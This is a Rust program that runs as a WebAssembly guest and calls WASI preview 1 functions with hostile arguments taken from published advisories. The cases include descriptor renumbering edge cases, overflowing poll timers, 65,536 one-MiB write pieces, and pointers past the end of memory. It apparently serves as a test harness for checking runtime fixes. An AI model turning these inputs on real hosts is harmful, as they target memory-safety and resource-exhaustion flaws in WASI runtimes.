//! Calls preview 1 as the guests of published advisories did; the first argument picks one of them, and the host's answer
//! is printed.
//!
//! - `renumber-same`, `renumber-far`: `fd_renumber` onto itself and onto the largest descriptor (CVE-2025-53901)
//! - `renumber-often`: the same descriptor to and fro, 20,000 times (GHSA-3p27)
//! - `poll-none`, `poll-now`, `poll-late`: `poll_oneoff` of nothing, of a time that is over, and of one that never comes
//!   and has overflowed (GHSA-w4qr, GHSA-mr2v)
//! - `iovs`: 65,536 pieces in one `fd_write`, all of them the same MiB (CVE-2026-27204)
//! - `random`: all of the address space as random bytes (CVE-2026-27204)
//! - `pointers`: pieces that begin behind the end of the memory (GHSA-93g3)

#[link(wasm_import_module = "wasi_snapshot_preview1")]
unsafe extern "C" {
    fn fd_renumber(from: u32, to: u32) -> i32;
    fn fd_write(fd: u32, iovs: *const Iov, iovs_len: usize, written: *mut usize) -> i32;
    fn poll_oneoff(
        list: *const Subscription,
        events: *mut [u64; 4],
        count: usize,
        got: *mut usize,
    ) -> i32;
    fn random_get(buffer: *mut u8, bytes: usize) -> i32;
}

/// A piece of memory, as preview 1 lays it out.
#[repr(C)]
#[derive(Clone)]
struct Iov {
    start: usize,
    bytes: usize,
}

/// A timer, as preview 1 lays it out.
#[repr(C)]
struct Subscription {
    userdata: u64,
    tag: u64,
    clock: u64,
    timeout: u64,
    precision: u64,
    flags: u64,
}

fn main() {
    let case = std::env::args().nth(1).unwrap_or_default();
    let told = match case.as_str() {
        "renumber-same" => renumber(1, 1),
        "renumber-far" => renumber(1, u32::MAX),
        "renumber-often" => (0..20_000)
            .map(|turn| renumber(turn % 2, 1 - turn % 2))
            .max()
            .unwrap_or(0),
        "poll-none" => poll(&[], 0),
        "poll-now" => poll(&[timer(0, 0)], 1),
        "poll-late" => poll(&[timer(u64::MAX, 1), timer(0, 0)], 2),
        "iovs" => iovs(),
        "random" => {
            // SAFETY: none is claimed: that it does not fit is the attack.
            unsafe { random_get(std::ptr::without_provenance_mut(16), usize::MAX - 16) }
        }
        "pointers" => write(&[
            Iov {
                start: usize::MAX - 15,
                bytes: 0,
            },
            Iov {
                start: usize::MAX - 15,
                bytes: 64,
            },
        ]),
        _ => 0,
    };
    // Where a case took standard output away, nobody can be told.
    use std::io::Write;
    let _ = writeln!(std::io::stderr(), "{case}: {told}");
}

fn renumber(from: u32, to: u32) -> i32 {
    // SAFETY: plain numbers.
    unsafe { fd_renumber(from, to) }
}

fn timer(timeout: u64, flags: u64) -> Subscription {
    Subscription {
        userdata: 0,
        tag: 0,
        clock: 1,
        timeout,
        precision: 0,
        flags,
    }
}

fn poll(list: &[Subscription], count: usize) -> i32 {
    let (mut events, mut got) = ([[0; 4]; 2], 0);
    // SAFETY: the list has `count` entries and there is room for as many events.
    unsafe { poll_oneoff(list.as_ptr(), events.as_mut_ptr(), count, &mut got) }
}

/// One large piece, many times.
fn iovs() -> i32 {
    let piece = vec![b'x'; 1 << 20];
    write(&vec![
        Iov {
            start: piece.as_ptr() as usize,
            bytes: piece.len()
        };
        65_536
    ])
}

fn write(list: &[Iov]) -> i32 {
    let mut written = 0;
    // SAFETY: the list itself is real; what it points to is the attack.
    unsafe { fd_write(1, list.as_ptr(), list.len(), &mut written) }
}
